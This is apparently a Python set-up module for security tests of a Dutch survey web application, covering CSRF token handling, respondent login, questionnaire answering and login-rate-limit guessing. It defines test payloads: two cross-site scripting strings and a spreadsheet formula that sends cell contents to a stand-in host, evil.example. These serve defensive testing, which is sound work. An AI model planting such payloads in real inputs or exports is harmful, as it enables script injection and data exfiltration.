"""Set-up of the security tests: one database with the hand-built fieldwork edition
(`tests.support.fieldwork_data`), one staff account per role, and two respondents of the mini
questionnaire whose letters carry known codes; hostile strings; a fake clock and code guesses
for the login limit."""

import re
import time as real_time

from tests.support.apps import make_app
from tests.support.fieldwork_data import add_edition
from tests.support.respondent import FIXTURES, add_unit
from tests.support.staff import StaffActions, add_accounts, put_on_call_list

RESPONDENT_CODE = "HJSY36UY9B"
OTHER_CODE = "VFAUAFNK42"
SCRIPT = "<script>alert('xss')</script>"
IMG = '"><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klik")'

def build_security_app(url, **config):
    """The app over a database with the fieldwork edition, staff accounts and two mini units
    (`m1` with RESPONDENT_CODE, `m2` with OTHER_CODE)."""
    add_edition(url)
    put_on_call_list(url, "s6", person_id=60, code="BELBAAR606")
    add_unit(url, "m1", RESPONDENT_CODE)
    add_unit(url, "m2", OTHER_CODE)
    add_accounts(url)
    settings = {"QUESTIONNAIRES_DIR": str(FIXTURES)}
    settings.update(config)
    return make_app(url, **settings)



def form_token(text: str) -> str:
    """The CSRF token of the first form on a page (either attribute order)."""
    match = (re.search(r'name="csrf_token"[^>]*value="([^"]+)"', text)
             or re.search(r'value="([^"]+)"[^>]*name="csrf_token"', text))
    assert match, "the page has no CSRF token"
    return match.group(1)


def respondent_login(client, code=RESPONDENT_CODE, **kwargs):
    page = client.get("/start", **kwargs)
    return client.post("/start", data={"csrf_token": form_token(page.text), "code": code}, **kwargs)



def staff_client(app, role):
    actions = StaffActions(app.test_client())
    response = actions.login(role)
    assert response.status_code == 302, f"{role} could not log in"
    return actions.client


def answer_open_question(app, code, text):
    """Answer the mini questionnaire up to its open question and type `text` there."""
    client = app.test_client()
    respondent_login(client, code)
    for path, data in (
        ("/vragenlijst/pagina/woonduur", {"woonjaren": "12"}),
        ("/vragenlijst/pagina/buurt-oordeel", {"buurt_prettig": "ja", "cohesie_kennen": "eens",
                                               "cohesie_omgang": "eens"}),
        ("/vragenlijst/pagina/onveilig", {"onveilig_ooit": "soms"}),
        ("/vragenlijst/pagina/onveilig-plekken", {"onveilig_plekken": "straat",
                                                  "onveilig_toelichting": text}),
    ):
        token = form_token(client.get(path).text)
        response = client.post(path, data={"csrf_token": token, "action": "next", **data})
        assert response.status_code == 303, (path, response.status_code)
    return client


class FakeClock:
    def __init__(self):
        self.now = real_time.time()

    def time(self):
        return self.now


def guess(client, code, address, token=None):
    environ = {"REMOTE_ADDR": address}
    if token is None:
        token = form_token(client.get("/start", environ_base=environ).text)
    return client.post("/start", data={"csrf_token": token, "code": code}, environ_base=environ)


def wrong_code(number):
    return f"ZZZZ{number:06d}".replace("0", "A").replace("1", "B")
